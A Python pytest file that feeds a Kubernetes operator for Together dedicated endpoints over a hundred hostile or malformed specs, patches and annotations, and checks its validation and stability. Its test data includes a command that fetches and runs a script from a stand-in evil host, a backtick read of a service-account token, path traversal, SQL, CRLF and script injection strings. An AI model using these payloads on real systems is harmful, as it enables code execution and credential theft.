"""Over a hundred malformed or hostile TogetherEndpoints: huge strings at and over their limits, unicode,
control characters, injection-looking values, wrong types and unknown fields sent raw (bypassing
kubectl), odd annotation values. Each one is either rejected at admission with an error naming the
field, or accepted and then Ready or Stalled with a message that says what to fix; hostile strings
that reach Together arrive byte for byte. Meanwhile the operator never crashes, logs no traceback and
does not loop: the calls each resource causes stay at what its spec needs.
"""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any, Literal

import kubernetes
import pytest
import yaml

from tests.faults.conftest import StackFactory
from tests.faults.harness import FaultStack, is_ready, make_key, report, stalled_reason
from tests.support.kube import Kube, condition
from tests.support.manifests import HARDWARE, MODEL
from together_operator.resource import GROUP, PLURAL, VERSION

pytestmark = pytest.mark.controlplane

How = Literal["kubectl", "raw", "raw-strict", "merge-patch", "json-patch"]
"""kubectl apply (server-side strict field validation, as kubectl does by default); a raw create through
the API (no client-side anything; unknown fields pruned with a warning); the same with
fieldValidation=Strict; a raw JSON merge patch or JSON patch of an existing, valid resource."""

BASE: dict[str, Any] = {"model": MODEL, "hardware": HARDWARE}

HOSTILE: dict[str, str] = {
    "sql": "'; DROP TABLE endpoints; --",
    "path-traversal": "../../../../etc/passwd",
    "go-template": "{{ .Values.apiKey }}",
    "jinja": "{% for k in secrets %}{{ k }}{% endfor %}",
    "shell": "$(curl -s evil.example | sh)",
    "backticks": "`cat /var/run/secrets/token`",
    "emoji": "🚀🔥🤖 模型",
    "rtl-override": "\u202eledom-live\u202c",
    "arabic": "نموذج تجريبي",
    "zero-width": "mis\u200btral\u200d",
    "newline": "line one\nline two",
    "crlf-header": "x\r\nAuthorization: Bearer stolen",
    "tab": "a\tb",
    "null-byte": "nul\u0000byte",
    "ansi-escape": "\u001b[31mred\u001b[0m",
    "html": "<script>alert(1)</script>",
    "url": "https://evil.example/v1/endpoints?mine=false#x",
    "percent-encoded": "%00%2e%2e%2fhardware",
    "json": '{"model": "x", "hardware": "y"}',
    "yaml-bomb": "&a [*a, *a, *a]",
    "backslashes": "C:\\Windows\\System32\\",
    "quotes": "\"'\"'",
    "unicode-at-limit": "é" * 256,
}


@dataclass(frozen=True)
class Case:
    id: str
    how: How
    payload: Any
    """The spec (creates) or the patch body (patches)."""
    expect: str
    """"rejected", "Ready", "Paused" or "Stalled/<Reason>"."""
    says: tuple[str, ...] = ()
    """Substrings of the rejection (the field first) or of the Stalled message."""
    annotations: dict[str, str] | None = None
    remote_display_name: str | None = None
    """The display name the remote endpoint must carry, byte for byte."""


def _cases() -> list[Case]:
    cases: list[Case] = []
    names = list(HOSTILE.items())
    # Hostile models are accepted (any string up to 256 characters may name a model) and stall: Together
    # offers no hardware for them. Half through kubectl, half raw.
    for i, (label, text) in enumerate(names):
        how: How = "kubectl" if i % 2 == 0 else "raw"
        cases.append(
            Case(
                f"model-{label}",
                how,
                {**BASE, "model": text},
                "Stalled/ModelNotSupported",
                ("is not available for dedicated endpoints", "check spec.model"),
            )
        )
    # Hostile display names are accepted and reach Together exactly as written.
    for i, (label, text) in enumerate(names):
        how = "raw" if i % 2 == 0 else "kubectl"
        cases.append(
            Case(
                f"display-name-{label}", how, {**BASE, "displayName": text}, "Ready", remote_display_name=text
            )
        )
    too_long = [
        ("model-257-chars", {**BASE, "model": "m" * 257}, ("spec.model", "Too long")),
        ("model-257-emoji", {**BASE, "model": "🚀" * 257}, ("spec.model", "Too long")),
        ("model-1mb", {**BASE, "model": "A" * 1_000_000}, ("spec.model", "Too long")),
        ("model-empty", {**BASE, "model": ""}, ("spec.model", "at least 1 chars long")),
        ("display-name-257", {**BASE, "displayName": "d" * 257}, ("spec.displayName", "Too long")),
        ("display-name-empty", {**BASE, "displayName": ""}, ("spec.displayName", "at least 1 chars long")),
    ]
    cases += [Case(i, "kubectl", spec, "rejected", says) for i, spec, says in too_long]
    # Fields with a pattern refuse every hostile string.
    patterned = {
        "hardware": ["sql", "path-traversal", "go-template", "shell", "emoji", "newline"],
        "availabilityZone": ["sql", "null-byte", "rtl-override"],
        "endpointId": ["path-traversal", "shell", "crlf-header"],
    }
    for field_name, labels in patterned.items():
        for label in labels:
            cases.append(
                Case(
                    f"{field_name}-{label}",
                    "kubectl",
                    {**BASE, field_name: HOSTILE[label]},
                    "rejected",
                    (f"spec.{field_name}", "should match"),
                )
            )
    model_only = {"model": MODEL}
    cases += [
        Case(
            "gpu-type-shell",
            "kubectl",
            {**model_only, "gpu": {"type": HOSTILE["shell"], "count": 2}},
            "rejected",
            ("spec.gpu.type", "should match"),
        ),
        Case(
            "gpu-type-emoji",
            "raw",
            {**model_only, "gpu": {"type": HOSTILE["emoji"], "count": 2}},
            "rejected",
            ("spec.gpu.type",),
        ),
        Case(
            "secret-name-path",
            "kubectl",
            {**BASE, "apiKeySecretRef": {"name": HOSTILE["path-traversal"]}},
            "rejected",
            ("spec.apiKeySecretRef.name", "should match"),
        ),
        Case(
            "secret-key-newline",
            "raw",
            {**BASE, "apiKeySecretRef": {"name": "key", "key": HOSTILE["newline"]}},
            "rejected",
            ("spec.apiKeySecretRef.key", "should match"),
        ),
        Case(
            "config-map-template",
            "kubectl",
            {**BASE, "connection": {"configMapName": HOSTILE["go-template"]}},
            "rejected",
            ("spec.connection.configMapName", "should match"),
        ),
    ]
    # Wrong types and out-of-range values, sent raw: nothing on the client side checks them.
    wrong: list[tuple[str, Any, tuple[str, ...]]] = [
        ("model-number", {**BASE, "model": 123}, ("spec.model", "must be of type string")),
        ("model-list", {**BASE, "model": ["a"]}, ("spec.model", "must be of type string")),
        ("model-object", {**BASE, "model": {"$ne": ""}}, ("spec.model", "must be of type string")),
        ("hardware-number", {**BASE, "hardware": 2}, ("spec.hardware", "must be of type string")),
        (
            "autoscaling-string",
            {**BASE, "autoscaling": "1..3"},
            ("spec.autoscaling", "must be of type object"),
        ),
        (
            "min-replicas-string",
            {**BASE, "autoscaling": {"minReplicas": "2", "maxReplicas": 3}},
            ("spec.autoscaling.minReplicas", "must be of type integer"),
        ),
        (
            "max-replicas-float",
            {**BASE, "autoscaling": {"minReplicas": 1, "maxReplicas": 1.5}},
            ("spec.autoscaling.maxReplicas", "must be of type integer"),
        ),
        (
            "min-replicas-zero",
            {**BASE, "autoscaling": {"minReplicas": 0, "maxReplicas": 1}},
            ("spec.autoscaling.minReplicas", "should be greater than or equal to 1"),
        ),
        (
            "min-replicas-negative",
            {**BASE, "autoscaling": {"minReplicas": -5, "maxReplicas": 1}},
            ("spec.autoscaling.minReplicas", "should be greater than or equal to 1"),
        ),
        (
            "max-replicas-2-pow-63",
            {**BASE, "autoscaling": {"minReplicas": 1, "maxReplicas": 2**63}},
            ("spec.autoscaling.maxReplicas", "must be of type integer"),
        ),
        (
            "min-above-max",
            {**BASE, "autoscaling": {"minReplicas": 3, "maxReplicas": 2}},
            ("spec.autoscaling.minReplicas", "must not exceed"),
        ),
        ("state-bool", {**BASE, "state": True}, ("spec.state", "must be of type string")),
        ("state-lowercase", {**BASE, "state": "started"}, ("spec.state", "Unsupported value")),
        ("state-injection", {**BASE, "state": HOSTILE["sql"]}, ("spec.state", "Unsupported value")),
        ("inactive-timeout-negative", {**BASE, "inactiveTimeout": -1}, ("spec.inactiveTimeout",)),
        ("inactive-timeout-string", {**BASE, "inactiveTimeout": "60"}, ("spec.inactiveTimeout",)),
        ("inactive-timeout-float", {**BASE, "inactiveTimeout": 1.5}, ("spec.inactiveTimeout",)),
        ("speculative-string", {**BASE, "speculativeDecoding": "yes"}, ("spec.speculativeDecoding",)),
        ("deletion-policy-unknown", {**BASE, "deletionPolicy": "Destroy"}, ("spec.deletionPolicy",)),
        ("management-policy-number", {**BASE, "managementPolicy": 1}, ("spec.managementPolicy",)),
        ("gpu-count-zero", {**model_only, "gpu": {"type": "h100", "count": 0}}, ("spec.gpu.count",)),
        ("spec-string", "model=x", ("spec", "must be of type object")),
        ("spec-list", [BASE], ("spec", "must be of type object")),
        ("spec-null", None, ("spec", "Required value")),
        (
            "hardware-and-gpu",
            {**BASE, "gpu": {"type": "h100", "count": 2}},
            ("spec.gpu", "mutually exclusive"),
        ),
    ]
    cases += [Case(i, "raw", spec, "rejected", says) for i, spec, says in wrong]
    cases += [
        # Beyond int32 (what Together reads): the schema's `maximum` refuses it at admission.
        Case(
            "max-replicas-2-pow-31",
            "raw",
            {**BASE, "autoscaling": {"minReplicas": 1, "maxReplicas": 2**31}},
            "rejected",
            ("spec.autoscaling.maxReplicas", "less than or equal to 2147483647"),
        ),
        Case(
            "inactive-timeout-2-pow-31",
            "raw",
            {**BASE, "inactiveTimeout": 2**31},
            "rejected",
            ("spec.inactiveTimeout", "less than or equal to 2147483647"),
        ),
        Case("inactive-timeout-int32-max", "raw", {**BASE, "inactiveTimeout": 2**31 - 1}, "Ready"),
        Case(
            "max-replicas-int32-max", "kubectl", {**BASE, "autoscaling": {"maxReplicas": 2**31 - 1}}, "Ready"
        ),
        # Unknown fields: kubectl and strict clients are refused, others are pruned with a warning.
        Case(
            "unknown-field-kubectl",
            "kubectl",
            {**BASE, "apiKey": "x"},
            "rejected",
            ('unknown field "spec.apiKey"',),
        ),
        Case(
            "unknown-field-strict",
            "raw-strict",
            {**BASE, "command": "sh"},
            "rejected",
            ('unknown field "spec.command"',),
        ),
        Case("unknown-field-pruned", "raw", {**BASE, "command": "sh", "x-inject": {"a": 1}}, "Ready"),
    ]
    # Annotations: only `together.ai/paused: "true"` pauses; odd values of either annotation are inert.
    paused = "together.ai/paused"
    restart = "together.ai/restart-requested-at"
    odd_annotations = [
        ("paused-true", {paused: "true"}, "Paused"),
        ("paused-upper", {paused: "TRUE"}, "Ready"),
        ("paused-yes", {paused: "yes"}, "Ready"),
        ("paused-empty", {paused: ""}, "Ready"),
        ("paused-newline", {paused: "true\n"}, "Ready"),
        ("paused-null-byte", {paused: "true\u0000"}, "Ready"),
        ("paused-emoji", {paused: "🚀"}, "Ready"),
        ("restart-not-a-date", {restart: "not-a-date"}, "Ready"),
        ("restart-injection", {restart: HOSTILE["sql"]}, "Ready"),
        ("restart-100kb", {restart: "r" * 100_000}, "Ready"),
        ("restart-control", {restart: HOSTILE["ansi-escape"]}, "Ready"),
    ]
    cases += [Case(i, "kubectl", BASE, expect, annotations=a) for i, a, expect in odd_annotations]
    cases += [
        Case(
            "annotation-over-256kb",
            "kubectl",
            BASE,
            "rejected",
            ("metadata.annotations", "Too long"),
            annotations={restart: "r" * 300_000},
        ),
        Case(
            "annotation-bad-key",
            "kubectl",
            BASE,
            "rejected",
            ("metadata.annotations", "Invalid value"),
            annotations={"together.ai/paused!": "true"},
        ),
    ]
    # Patches of an existing, valid resource, raw: a rejected one leaves it untouched.
    patches: list[tuple[str, How, Any, tuple[str, ...]]] = [
        (
            "patch-model",
            "merge-patch",
            {"spec": {"model": "meta-llama/Llama-3-8b-chat-hf"}},
            ("model is immutable",),
        ),
        (
            "patch-hardware",
            "merge-patch",
            {"spec": {"hardware": "4x_nvidia_h100_80gb_sxm"}},
            ("hardware is immutable",),
        ),
        ("patch-model-null", "merge-patch", {"spec": {"model": None}}, ("spec.model", "Required value")),
        ("patch-spec-null", "merge-patch", {"spec": None}, ("spec", "Required value")),
        (
            "patch-min-above-max",
            "merge-patch",
            {"spec": {"autoscaling": {"minReplicas": 5, "maxReplicas": 2}}},
            ("spec.autoscaling.minReplicas", "must not exceed"),
        ),
        (
            "patch-min-string",
            "merge-patch",
            {"spec": {"autoscaling": {"minReplicas": "1"}}},
            ("spec.autoscaling.minReplicas", "must be of type integer"),
        ),
        (
            "patch-display-name-257",
            "merge-patch",
            {"spec": {"displayName": "x" * 257}},
            ("spec.displayName", "Too long"),
        ),
        (
            "patch-state-paused",
            "merge-patch",
            {"spec": {"state": "Paused"}},
            ("spec.state", "Unsupported value"),
        ),
        (
            "patch-timeout-negative",
            "merge-patch",
            {"spec": {"inactiveTimeout": -5}},
            ("spec.inactiveTimeout",),
        ),
        (
            "json-patch-state-number",
            "json-patch",
            [{"op": "replace", "path": "/spec/state", "value": 123}],
            ("spec.state", "must be of type string"),
        ),
        (
            "json-patch-remove-hardware",
            "json-patch",
            [{"op": "remove", "path": "/spec/hardware"}],
            ("spec.hardware",),
        ),
        (
            "json-patch-endpoint-id-traversal",
            "json-patch",
            [{"op": "add", "path": "/spec/endpointId", "value": "endpoint-../../hardware"}],
            ("spec.endpointId", "should match"),
        ),
    ]
    cases += [Case(i, how, body, "rejected", says) for i, how, body, says in patches]
    # Accepted patches: status written through the main resource is ignored (status is a subresource);
    # a hostile rename reaches Together byte for byte.
    renamed_crlf = HOSTILE["crlf-header"] + " (renamed)"
    renamed_template = "renamed " + HOSTILE["go-template"]
    cases += [
        Case("patch-status-hijack", "merge-patch", {"status": {"endpointId": "endpoint-not-yours"}}, "Ready"),
        Case(
            "patch-rename-crlf",
            "merge-patch",
            {"spec": {"displayName": renamed_crlf}},
            "Ready",
            remote_display_name=renamed_crlf,
        ),
        Case(
            "json-patch-rename-template",
            "json-patch",
            [{"op": "add", "path": "/spec/displayName", "value": renamed_template}],
            "Ready",
            remote_display_name=renamed_template,
        ),
    ]
    return cases


CASES = _cases()
PATCH_TARGET = "patch-target"
"""The valid resource every rejected patch is tried on."""


def _manifest(name: str, spec: Any, annotations: dict[str, str] | None = None) -> dict[str, Any]:
    metadata: dict[str, Any] = {"name": name}
    if annotations is not None:
        metadata["annotations"] = annotations
    return {
        "apiVersion": f"{GROUP}/{VERSION}",
        "kind": "TogetherEndpoint",
        "metadata": metadata,
        "spec": spec,
    }


def _api_error(error: kubernetes.client.ApiException) -> str:
    try:
        message: str = json.loads(error.body or "")["message"]
    except (ValueError, KeyError, TypeError):
        return str(error.body)
    return message


class Applier:
    """Sends one case the way it says, returning the error text of a rejection (None if accepted)."""

    def __init__(self, stack: FaultStack, kube: Kube) -> None:
        self.stack, self.kube = stack, kube

    def create(self, name: str, case: Case) -> str | None:
        manifest = _manifest(name, case.payload, case.annotations)
        if case.how == "kubectl":
            done = self.kube.kubectl("apply", "-f", "-", input=yaml.safe_dump(manifest), check=False)
            return None if done.returncode == 0 else done.stderr
        validation = "Strict" if case.how == "raw-strict" else None
        try:
            self.stack.custom.create_namespaced_custom_object(
                GROUP, VERSION, self.kube.namespace, PLURAL, manifest, field_validation=validation
            )
        except kubernetes.client.ApiException as error:
            return _api_error(error)
        return None

    def patch(self, name: str, case: Case) -> str | None:
        content_type = (
            "application/json-patch+json" if case.how == "json-patch" else "application/merge-patch+json"
        )
        try:
            self.stack.custom.patch_namespaced_custom_object(
                GROUP, VERSION, self.kube.namespace, PLURAL, name, case.payload, _content_type=content_type
            )
        except kubernetes.client.ApiException as error:
            return _api_error(error)
        return None


def _outcome(case: Case) -> Callable[[dict[str, Any]], bool]:
    if case.expect == "Ready":
        return is_ready
    if case.expect == "Paused":
        return lambda obj: True
    reason = case.expect.removeprefix("Stalled/")
    return lambda obj: stalled_reason(obj) == reason


def test_a_hundred_hostile_specs_are_rejected_or_end_ready_or_stalled_with_a_clear_message(
    fault_stack: StackFactory,
) -> None:
    assert len(CASES) >= 100
    assert len({case.id for case in CASES}) == len(CASES)
    key = make_key("hostile")
    stack = fault_stack(accounts={key: "acme"}, operator_key=key)
    kube = stack.namespace("hostile")
    ns = kube.namespace
    applier = Applier(stack, kube)
    names = {case.id: f"h{index:03d}" for index, case in enumerate(CASES)}

    kube.apply(_manifest(PATCH_TARGET, BASE))
    target = stack.wait_for(ns, PATCH_TARGET, is_ready, what="Ready")
    wrong: list[str] = []
    for case in CASES:
        name = names[case.id]
        patching = case.how in ("merge-patch", "json-patch")
        if patching and case.expect != "rejected":
            kube.apply(_manifest(name, BASE))
            stack.wait_for(ns, name, is_ready, what="Ready before the patch")
        error = (
            applier.patch(PATCH_TARGET if case.expect == "rejected" else name, case)
            if patching
            else applier.create(name, case)
        )
        if case.expect == "rejected":
            if error is None:
                wrong.append(f"{case.id}: accepted, expected a rejection naming {case.says[0]}")
            elif not all(text in error for text in case.says):
                wrong.append(f"{case.id}: rejected without naming {case.says}: {error[:300]}")
        elif error is not None:
            wrong.append(f"{case.id}: rejected, expected {case.expect}: {error[:300]}")
    assert not wrong, "\n".join(wrong)

    # A rejected patch changed nothing; a rejected create left no object behind.
    assert stack.resource(ns, PATCH_TARGET)["spec"] == target["spec"]  # type: ignore[index]
    accepted = [case for case in CASES if case.expect != "rejected"]
    present = {obj["metadata"]["name"] for obj in stack.resources(ns)}
    assert present == {PATCH_TARGET} | {names[case.id] for case in accepted}

    outcomes = {names[case.id]: _outcome(case) for case in accepted} | {PATCH_TARGET: is_ready}
    settled = stack.wait_all(
        ns, lambda obj: outcomes[obj["metadata"]["name"]](obj), timeout=240, what="settled"
    )
    by_name = {obj["metadata"]["name"]: obj for obj in settled}
    remote = {e.display_name: e for e in stack.dedicated_endpoints()}
    for case in accepted:
        obj = by_name[names[case.id]]
        if case.expect.startswith("Stalled/"):
            message = condition(obj, "Stalled")["message"]  # type: ignore[index]
            assert all(text in message for text in case.says), (case.id, message)
            assert "endpointId" not in obj["status"], case.id
        if case.remote_display_name is not None:
            assert case.remote_display_name in remote, case.id
            assert remote[case.remote_display_name].id == obj["status"]["endpointId"], case.id
        if case.expect == "Paused":
            assert not (obj.get("status") or {}).get("conditions"), case.id
            assert f"{ns}/{obj['metadata']['name']}" not in remote, case.id
    hijacked = by_name[names["patch-status-hijack"]]
    assert hijacked["status"]["endpointId"] != "endpoint-not-yours"
    assert "unknown-field" not in json.dumps(by_name[names["unknown-field-pruned"]]["spec"])
    assert "command" not in by_name[names["unknown-field-pruned"]]["spec"]

    # No loop: over two more resync intervals, a stalled resource makes no call at all, and a Ready one
    # reads its endpoint about once per resync interval.
    before = stack.stats()
    time.sleep(10)
    after = stack.stats()
    window = after.calls[len(before.calls) :]
    hostile_models = set(HOSTILE.values())
    assert [c for c in window if c.path == "/v1/hardware" and c.query.get("model") in hostile_models] == []
    per_endpoint = after.endpoint_calls()
    grown = {i: n - before.endpoint_calls()[i] for i, n in per_endpoint.items()}
    assert max(grown.values()) <= 3 * 3, grown  # resync every 5 s: 2-3 GETs in 10 s, x3 attempts at most
    # Each hostile model was looked up once (one generation), never retried.
    lookups = [c.query.get("model") for c in after.calls if c.path == "/v1/hardware"]
    assert max(lookups.count(model) for model in hostile_models) == 1
    # One POST per resource that needed one: each Ready resource (and the patch target) made its
    # endpoint, the two beyond int32 were refused by Together once; hostile models and the paused one
    # never got as far as a create.
    ready = sum(1 for case in accepted if case.expect == "Ready") + 1
    refused = sum(1 for case in accepted if case.expect == "Stalled/InvalidSpec")
    assert len(after.posts()) == ready + refused
    assert len(stack.dedicated_endpoints()) == ready

    stack.operator.assert_running()
    assert len(stack.operator.incarnations) == 1
    assert stack.tracebacks() == 0, stack.operator.logs()[-4000:]
    rejected = [case for case in CASES if case.expect == "rejected"]
    report(
        "hostile_specs",
        cases=len(CASES),
        rejected_at_admission=len(rejected),
        accepted=len(accepted),
        ready=sum(1 for c in accepted if c.expect == "Ready"),
        stalled=sum(1 for c in accepted if c.expect.startswith("Stalled/")),
        paused=sum(1 for c in accepted if c.expect == "Paused"),
        via_kubectl=sum(1 for c in CASES if c.how == "kubectl"),
        via_raw_api=sum(1 for c in CASES if c.how != "kubectl"),
        calls_total=len(after.calls),
        endpoint_calls_max=max(per_endpoint.values()),
        tracebacks=0,
        operator_restarts=0,
    )
    stack.assert_no_key_leaks()
